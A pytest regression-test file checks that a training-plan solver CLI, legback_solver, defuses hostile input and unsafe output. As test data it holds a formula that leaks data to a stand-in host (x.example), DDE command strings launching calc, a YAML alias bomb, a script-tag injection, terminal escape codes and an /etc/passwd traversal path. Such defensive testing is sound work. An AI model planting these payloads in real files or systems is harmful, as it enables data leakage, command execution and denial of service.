"""Hostile input, unsafe outputs and lost plans (issue 14): one regression test per
failure of the probe campaign."""

from __future__ import annotations

import errno
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from legback_solver.cli import main
from legback_solver.errors import InputError
from legback_solver.io import load_client, load_plan, parse_client, read_mapping, write_atomic
from legback_solver.io.export import export_plan
from legback_solver.io.text import FORMULA_PREFIXES
from legback_solver.models import Plan

from .conftest import client

ROOT = Path(__file__).resolve().parent.parent
EVIL = '=HYPERLINK("http://x.example/?leak","x")'
SLOTS = [
    {"day": "mon", "start": "18:00", "minutes": 60},
    {"day": "thu", "start": "18:00", "minutes": 60},
]
CLIENT_YAML = """name: Test
equipment: [barbell, dumbbell, bench, pullup_bar]
availability:
  - {day: mon, start: "18:00", minutes: 60}
  - {day: thu, start: "18:00", minutes: 60}
"""
BOMB = """a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
"""


def run(*args: str, input: str | None = None):
    return CliRunner().invoke(main, list(args), input=input)


def bad_input(result, *needles: str) -> None:
    """Exit 2, one paragraph, no traceback, every needle named."""
    assert result.exit_code == 2, (result.exit_code, result.output)
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert "Traceback" not in result.output
    for n in needles:
        assert n in result.output, (n, result.output)


@pytest.fixture(scope="module")
def weekly() -> Plan:
    from legback_solver import solve

    res = solve(
        client(), weeks=1, time_limit=20, start_date=__import__("datetime").date(2026, 11, 23)
    )
    assert res.feasible
    return res.plan


def _plan_file(tmp_path: Path, plan: Plan | dict, name: str = "plan.json") -> Path:
    path = tmp_path / name
    data = plan if isinstance(plan, dict) else json.loads(plan.to_json())
    path.write_text(json.dumps(data))
    return path


def _hostile_plan(weekly: Plan) -> Plan:
    d = json.loads(weekly.to_json())
    d["client"] = EVIL
    d["rulebook"]["name"] = "=cmd|' /C calc'!A0"
    d["weeks"][0]["sessions"][0]["exercises"][0]["exercise"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    return Plan.model_validate(d)


# --------------------------------------------------------------------------- severe


def test_csv_export_defuses_formulas(weekly):
    text = export_plan(_hostile_plan(weekly), "csv")
    import csv
    import io

    csv.field_size_limit(10**8)
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows[1:]:  # line 1 is the tag and the JSON metadata
        for value in row:
            assert not value.startswith(FORMULA_PREFIXES), value
    assert any(v.startswith("'@SUM") for r in rows for v in r)


def test_xlsx_export_defuses_formulas_and_control_characters(weekly):
    from io import BytesIO

    from openpyxl import load_workbook

    d = json.loads(_hostile_plan(weekly).to_json())
    d["client"] = EVIL + "\x07\x1b[31m\x00"
    content = export_plan(Plan.model_validate(d), "xlsx")  # control chars no longer crash
    wb = load_workbook(BytesIO(content))
    seen = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str) and ws.title != "legback":
                    assert not c.value.startswith(FORMULA_PREFIXES), c.value
                    seen += c.value.startswith("'=HYPERLINK")
    assert seen == 1


def test_yaml_alias_bomb_is_refused_at_once(tmp_path):
    path = tmp_path / "bomb.yaml"
    path.write_text(BOMB + CLIENT_YAML.replace("name: Test", "name: Test\nexperience: *g"))
    t0 = time.perf_counter()
    bad_input(run("solve", str(path)), "aliases")
    assert time.perf_counter() - t0 < 5


def test_yaml_plan_with_bomb_in_report(tmp_path, weekly):
    plan = yaml.safe_dump(json.loads(weekly.to_json()))
    path = tmp_path / "plan.yaml"
    path.write_text(BOMB + plan)
    bad_input(run("export", str(path), "--format", "md"), "aliases")


def test_recursive_alias_is_refused(tmp_path):
    path = tmp_path / "rec.yaml"
    path.write_text("a: &a [*a]\n" + CLIENT_YAML)
    bad_input(run("solve", str(path)), "aliases")


@pytest.mark.parametrize("kind", ["symlink", "fifo", "device"])
def test_out_never_replaces_a_special_file(tmp_path, weekly, kind):
    plan = _plan_file(tmp_path, weekly)
    if kind == "symlink":
        target = tmp_path / "target.txt"
        target.write_text("keep me")
        out = tmp_path / "link.json"
        out.symlink_to(target)
    elif kind == "fifo":
        out = tmp_path / "pipe.json"
        os.mkfifo(out)
    else:
        out = Path("/dev/null")
    bad_input(run("export", str(plan), "--format", "json", "--out", str(out)), "regular file")
    if kind == "symlink":
        assert out.is_symlink() and (tmp_path / "target.txt").read_text() == "keep me"
    elif kind == "fifo":
        import stat

        assert stat.S_ISFIFO(os.lstat(out).st_mode)
    else:
        assert Path("/dev/null").is_char_device()


def test_csv_round_trip_of_a_16_week_plan(tmp_path, weekly):
    d = json.loads(weekly.to_json())
    d["weeks"] = [dict(d["weeks"][0], week=k) for k in range(1, 17)]
    d["report"] = {"notes": ["x" * 200] * 900}  # metadata cell of ~190,000 characters
    plan = Plan.model_validate(d)
    path = tmp_path / "plan.csv"
    path.write_text(export_plan(plan, "csv"))
    assert len(path.read_text().splitlines()[0]) > 131072
    assert load_plan(path) == plan


def test_batch_keys_never_collide_and_renames_are_recorded(tmp_path):
    from legback_solver.batch import read_roster

    rows = [
        {"id": i, "name": f"N {n}", "availability": "mon 18:00 60"}
        for n, i in enumerate(["dup", "dup", "dup-2", "roster", "summary", "dup"])
    ]
    entries = read_roster(rows)
    keys = [e.key for e in entries]
    assert len(set(keys)) == len(keys) == 6
    assert keys[0] == "dup" and keys[2] == "dup-2"
    assert "roster" not in keys and "summary" not in keys
    assert entries[1].extra["renamed_from"] == "dup"


def test_batch_folder_with_same_stem_keeps_both(tmp_path):
    from legback_solver.batch import read_roster

    (tmp_path / "a.yaml").write_text(CLIENT_YAML)
    (tmp_path / "a.json").write_text(json.dumps({"name": "J", "availability": SLOTS}))
    entries = read_roster(tmp_path)
    assert len({e.key for e in entries}) == 2


def test_batch_bad_row_is_a_recorded_failure(tmp_path):
    from legback_solver.batch import prepare, read_roster

    rows = [
        {
            "id": "a",
            "name": "A",
            "availability": "mon 18:00 60",
            "recent_sets": "back_squat=1.2.3x5",
        },
        {
            "id": "b",
            "name": "B",
            "availability": "mon 18:00 60",
            "one_rep_max_kg": "back_squat=inf",
        },
        {"id": "c", "name": "C", "availability": "mon 18:00 60", "rulebook": "../../etc/passwd"},
    ]
    entries = read_roster(rows)
    for e in entries:
        prepare(e, 1)
        assert e.error, e
    assert "recent_sets" in entries[0].error


# --------------------------------------------------------------------------- medium: reading


@pytest.mark.parametrize(
    "name,text,needle",
    [
        ("deep.json", '{"name": ' + "[" * 5000 + "]" * 5000 + "}", "nest"),
        ("deep.yaml", "name: " + "[" * 5000 + "]" * 5000, "nest"),
        (
            "big.json",
            '{"name": "x", "one_rep_max_kg": {"back_squat": ' + "9" * 5000 + "}}",
            "digits",
        ),
        ("big.yaml", "name: x\none_rep_max_kg: {back_squat: " + "9" * 5000 + "}", "digits"),
        ("nan.json", '{"name": "x", "one_rep_max_kg": {"back_squat": NaN}}', "NaN"),
        ("dup.yaml", "name: a\nname: b\n", "duplicate key"),
        ("dup.json", '{"name": "a", "name": "b"}', "duplicate key"),
        (
            "date.yaml",
            "name: x\navailability: [{day: 2026-02-30, start: '18:00', minutes: 60}]",
            "weekday",
        ),
    ],
)
def test_malformed_files_are_bad_input(tmp_path, name, text, needle):
    path = tmp_path / name
    path.write_text(text)
    bad_input(run("solve", str(path)), needle)


def test_non_regular_client_files(tmp_path):
    bad_input(run("solve", "/dev/zero"), "not a regular file")
    fifo = tmp_path / "client.yaml"
    os.mkfifo(fifo)
    t0 = time.perf_counter()
    bad_input(run("solve", str(fifo)), "not a regular file")
    assert time.perf_counter() - t0 < 5
    big = tmp_path / "big.yaml"
    big.write_text("name: " + "x" * 1_100_000)
    bad_input(run("solve", str(big)), "larger than 1 MB")


@pytest.mark.parametrize("kind", ["dir", "binary", "nul"])
def test_bad_rulebook_paths(tmp_path, kind):
    if kind == "dir":
        (tmp_path / "book.toml").mkdir()
        book = str(tmp_path / "book.toml")
    elif kind == "binary":
        (tmp_path / "book.toml").write_bytes(b"\xff\xfe\x00\x01" * 100)
        book = str(tmp_path / "book.toml")
    else:
        book = "default\x00.toml"
    path = tmp_path / "c.json"
    path.write_text(json.dumps({"name": "x", "availability": SLOTS, "rulebook": book}))
    bad_input(run("solve", str(path)))
    bad_input(run("rules", "--rulebook", book))


def test_strict_types():
    with pytest.raises(InputError, match="'mongoose' is not a weekday"):
        parse_client(
            {"name": "x", "availability": [{"day": "mongoose", "start": "18:00", "minutes": 60}]}
        )
    with pytest.raises(InputError, match="not true/false"):
        parse_client({"name": "x", "availability": SLOTS, "one_rep_max_kg": {"back_squat": True}})
    with pytest.raises(InputError, match="blank"):
        parse_client({"name": "   ", "availability": SLOTS})
    assert parse_client({"name": "x", "availability": [dict(SLOTS[0], day="Monday")]})


def test_huge_value_is_shortened_in_the_message(tmp_path):
    path = tmp_path / "c.json"
    path.write_text(json.dumps({"name": "x", "availability": SLOTS, "goal": "g" * 900_000}))
    result = run("solve", str(path))
    bad_input(result, "goal", "characters")
    assert len(result.output) < 1500


def test_plan_values_are_checked(tmp_path, weekly):
    base = json.loads(weekly.to_json())
    ex = ("weeks", 0, "sessions", 0, "exercises", 0)

    def variant(path, value):
        d = json.loads(json.dumps(base))
        node = d
        for k in path[:-1]:
            node = node[k]
        node[path[-1]] = value
        return d

    cases = [
        (variant((*ex, "load_kg"), -20.0), "load_kg"),
        (variant((*ex, "reps"), "12-6"), "reps"),
        (variant(("weeks", 0, "sessions", 0, "date"), "2026-13-45"), "date"),
        (variant(("start_date",), "9999-12-27"), "start_date"),
        (dict(base, weeks=base["weeks"] * 2), "more than once"),
        (dict(base, weeks=[dict(base["weeks"][0], week=10000)]), "week"),
    ]
    for data, needle in cases:
        path = _plan_file(tmp_path, data)
        for args in (["check", str(path)], ["export", str(path), "--format", "ics"]):
            bad_input(run(*args), needle)
    nan = _plan_file(tmp_path, base)
    nan.write_text(nan.read_text().replace('"sets": ', '"sets": NaN, "x": ', 1))
    bad_input(run("check", str(nan)), "NaN")


def test_ten_thousand_weeks_are_refused_early(tmp_path, weekly):
    d = json.loads(weekly.to_json())
    d["weeks"] = [{"week": k, "sessions": []} for k in range(1, 10001)]
    path = _plan_file(tmp_path, d)
    t0 = time.perf_counter()
    bad_input(run("check", str(path)), "weeks")
    bad_input(run("plot", str(path), "--out", str(tmp_path / "p.png")))
    assert time.perf_counter() - t0 < 10


def test_csv_inf_and_garbage_cells(tmp_path, weekly):
    path = tmp_path / "plan.csv"
    path.write_text(export_plan(weekly, "csv"))
    lines = path.read_text().splitlines()
    head = lines[1].split(",")
    first, second = lines[2].split(","), lines[3].split(",")
    first[head.index("day")] = "mongoose"
    second[head.index("sets")] = "inf"
    path.write_text("\n".join([*lines[:2], ",".join(first), ",".join(second), *lines[4:]]) + "\n")
    bad_input(run("check", str(path)), "'inf' is not a whole number", "'mongoose'")


def test_gap_nan_and_far_start_date(tmp_path):
    path = tmp_path / "c.yaml"
    path.write_text(CLIENT_YAML)
    result = run("solve", str(path), "--gap", "nan")
    assert result.exit_code == 2 and "nan" in result.output
    bad_input(run("solve", str(path), "--start-date", "9999-12-27"), "out of range")


def test_disk_full_is_advice_not_a_traceback(tmp_path, monkeypatch):
    def full(fd):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    out = tmp_path / "plan.json"
    out.write_text("old")
    with pytest.raises(InputError, match="disk is full"):
        write_atomic(out, "new")
    assert out.read_text() == "old"
    assert [p.name for p in tmp_path.iterdir()] == ["plan.json"]


# --------------------------------------------------------------------------- checker


def test_checker_refuses_empty_and_broken_plans(tmp_path, weekly):
    d = json.loads(weekly.to_json())
    bad_input(run("check", str(_plan_file(tmp_path, dict(d, weeks=[])))), "no weeks")
    csv_path = tmp_path / "plan.csv"
    csv_path.write_text("\n".join(export_plan(weekly, "csv").splitlines()[:2]) + "\n")
    bad_input(run("check", str(csv_path)), "no rows")


def test_checker_refuses_an_xlsx_with_a_renamed_header(tmp_path, weekly):
    from openpyxl import load_workbook

    path = tmp_path / "plan.xlsx"
    path.write_bytes(export_plan(weekly, "xlsx"))
    wb = load_workbook(path)
    ws = wb["Week 1"]
    for c in ws[1]:
        if c.value == "exercise":
            c.value = "Übung"
    wb.save(path)
    bad_input(run("check", str(path)), "Week 1", "exercise")


def test_checker_flags_rules_switched_off(tmp_path, weekly):
    d = json.loads(weekly.to_json())
    for rule in d["rulebook"]["rules"].values():
        rule["kind"] = "off"
    result = run("check", str(_plan_file(tmp_path, d)))
    assert result.exit_code == 1, result.output
    assert "judged by the rules recorded in the plan (rulebook 'default')" in result.output
    assert "back-loading-gap is switched off in the plan but hard in rulebook 'default'" in (
        result.output
    )
    clean = run("check", str(_plan_file(tmp_path, weekly)))
    assert clean.exit_code == 0 and "judged by" in clean.output


# --------------------------------------------------------------------------- outputs


def test_markdown_escapes_names(weekly):
    d = json.loads(weekly.to_json())
    d["client"] = "x</h1><script>alert(1)</script>\n# Injected heading"
    md = export_plan(Plan.model_validate(d), "md")
    assert "<script>" not in md and "\n# Injected" not in md


def test_ics_folds_and_escapes_a_newline_in_the_name(weekly):
    d = json.loads(weekly.to_json())
    d["client"] = "Ana\nBEGIN:VEVENT\r\nSUMMARY:evil; x, y"
    ics = export_plan(Plan.model_validate(d), "ics")
    assert ics.split("\r\n").count("BEGIN:VEVENT") == sum(len(w.sessions) for w in weekly.weeks)
    assert all(len(line.encode()) <= 75 for line in ics.split("\r\n"))


def test_plot_text_is_not_mathtext(tmp_path, weekly):
    d = json.loads(weekly.to_json())
    d["client"] = r"$\frac{1}{0}$ $x^{2$ \$"
    path = _plan_file(tmp_path, d)
    result = run("plot", str(path), "--out", str(tmp_path / "p.png"))
    assert result.exit_code == 0, result.output


def test_rich_markup_and_terminal_controls_are_neutralised(tmp_path, weekly):
    book = tmp_path / "book.toml"
    book.write_text('description = "[/] [bold]x[/bold] \\u001b]0;pwned\\u0007"\n')
    result = run("rules", "--rulebook", str(book))
    assert result.exit_code == 0, result.output
    assert "\x1b]0;" not in result.output and "[/]" in result.output
    from legback_solver.render import plan_renderable

    d = json.loads(weekly.to_json())
    d["client"] = "\x1b[2J\x1b]0;pwned\x07[/] Ana"
    from rich.console import Console

    console = Console(record=True, width=120, color_system=None)
    console.print(plan_renderable(Plan.model_validate(d)))
    out = console.export_text()
    assert "\x1b" not in out and "[/] Ana" in out


# --------------------------------------------------------------------------- processes


def _cli(*args: str) -> list[str]:
    return [sys.executable, "-m", "legback_solver.cli", *args]


def test_ctrl_c_exits_130_and_keeps_out(tmp_path):
    out = tmp_path / "plan.json"
    out.write_text("previous plan")
    proc = subprocess.Popen(
        _cli(
            "solve",
            str(ROOT / "examples" / "alex.yaml"),
            "--weeks",
            "16",
            "--time-limit",
            "60",
            "--gap",
            "0",  # a proof to optimality: far longer than the 4 s before Ctrl-C
            "--out",
            str(out),
        ),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    time.sleep(4)
    proc.send_signal(signal.SIGINT)
    _, err = proc.communicate(timeout=30)
    assert proc.returncode == 130, err
    assert "Traceback" not in err
    assert out.read_text() == "previous plan"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["plan.json"]


def test_time_out_never_replaces_out(tmp_path):
    out = tmp_path / "plan.json"
    out.write_text("previous plan")
    result = run(
        "solve",
        str(ROOT / "examples" / "alex.yaml"),
        "--weeks",
        "16",
        "--time-limit",
        "0.05",
        "--out",
        str(out),
    )
    assert result.exit_code == 4, result.output
    assert out.read_text() == "previous plan"


def test_pool_workers_die_with_their_parent(tmp_path):
    roster = tmp_path / "roster.csv"
    from legback_solver.roster import make_roster

    make_roster(40, 0).to_csv(roster, index=False)
    code = (
        "from legback_solver.batch import solve_roster;"
        f"solve_roster({str(roster)!r}, {str(tmp_path / 'out')!r}, weeks=4, jobs=2, "
        "time_limit=30, progress=False)"
    )
    parent = subprocess.Popen([sys.executable, "-c", code])
    children: list[int] = []
    deadline = time.time() + 30
    while time.time() < deadline and len(children) < 2:
        time.sleep(0.5)
        out = subprocess.run(
            ["ps", "-o", "pid=", "--ppid", str(parent.pid)], capture_output=True, text=True
        ).stdout
        children = [int(x) for x in out.split()]
    assert len(children) >= 2
    parent.kill()
    parent.wait()
    deadline = time.time() + 10
    alive = children
    while time.time() < deadline and alive:
        time.sleep(0.3)
        alive = [p for p in alive if _alive(p)]
    assert not alive


def _alive(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat") as fh:
            return fh.read().split()[2] != "Z"
    except FileNotFoundError:
        return False


def test_dask_scheduler_without_workers_times_out(tmp_path, monkeypatch):
    from dask.distributed import LocalCluster

    from legback_solver import batch, workers

    monkeypatch.setattr(workers, "DASK_WORKER_WAIT", 2.0)
    cluster = LocalCluster(n_workers=0, processes=False, dashboard_address=None)
    try:
        with pytest.raises(InputError, match="has no workers"):
            batch.solve_roster(
                [{"name": "A", "availability": "mon 18:00 60"}],
                tmp_path / "out",
                dask=cluster.scheduler_address,
                progress=False,
            )
    finally:
        cluster.close()


def test_dask_tls_address_is_bad_input(tmp_path):
    from legback_solver import batch

    with pytest.raises(InputError, match="--dask"):
        batch.solve_roster(
            [{"name": "A", "availability": "mon 18:00 60"}],
            tmp_path / "out",
            dask="tls://127.0.0.1:1",
            progress=False,
        )


def test_load_client_example_still_reads(example_path):
    assert load_client(example_path).name
    assert read_mapping(example_path)["name"]
